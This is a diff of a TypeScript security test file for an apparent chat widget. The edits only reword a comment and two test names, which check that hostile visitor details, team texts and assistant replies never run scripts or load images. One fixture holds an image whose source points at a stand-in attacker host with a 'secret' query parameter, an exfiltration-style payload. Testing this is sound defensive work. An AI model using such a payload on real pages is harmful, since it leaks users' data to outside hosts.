@@ -38,7 +38,7 @@ const short = (text: string, most: number) => text.replace(/\s+/g, ' ').slice(0,
 const text = hostileTexts.join('\n\n')
 const line = (at: number, most = 200) => short(hostileTexts[at % hostileTexts.length]!, most)
 
-/** A conversation whose visitor, page and details are hostile. */
+/** A conversation with a hostile visitor, page and details. */
 async function startHostile(at: number): Promise<string> {
   const contact = {
     name: line(at),
@@ -64,7 +64,7 @@ async function startHostile(at: number): Promise<string> {
   return (await client.post('/conversations', body)).body.id
 }
 
-test('[threat 3] whoever the visitor says that they are, and whatever the team wrote down, nothing of it comes to life', async () => {
+test('[threat 3] a visitor’s details and the team’s texts are never executed', async () => {
   for (let at = 0; at < hostileTexts.length; at += 3) {
     answering([{ type: 'text', text: 'All is well.' }])
     const id = await startHostile(at)
@@ -89,7 +89,7 @@ test('[threat 3] whoever the visitor says that they are, and whatever the team w
   expect(anna.errors).toEqual([])
 })
 
-test('[threat 3] [threat 4] whatever the assistant says, no script runs and no picture is loaded', async () => {
+test('[threat 3] [threat 4] the assistant’s reply runs no script and loads no picture', async () => {
   const image = { src: `${evil}/?d=secret`, alt: line(1) }
   const actions = [
     { id: 'a', kind: 'reply', label: line(0), value: line(4) },
